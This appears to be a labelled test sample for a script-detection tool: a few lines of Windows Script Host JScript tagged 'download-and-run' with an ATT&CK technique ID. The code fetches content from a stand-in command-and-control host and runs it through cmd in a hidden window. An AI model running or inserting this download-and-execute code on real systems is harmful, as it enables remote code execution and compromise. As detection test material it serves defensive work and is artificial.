// expect: download-and-run | source: T1059.007, scripts of Windows Script Host
var request = new ActiveXObject("MSXML2.XMLHTTP");
request.open("GET", "http://c2.example.invalid/x.exe", false);
request.send();
new ActiveXObject("WScript.Shell").Run("cmd /c " + request.responseText, 0, false);
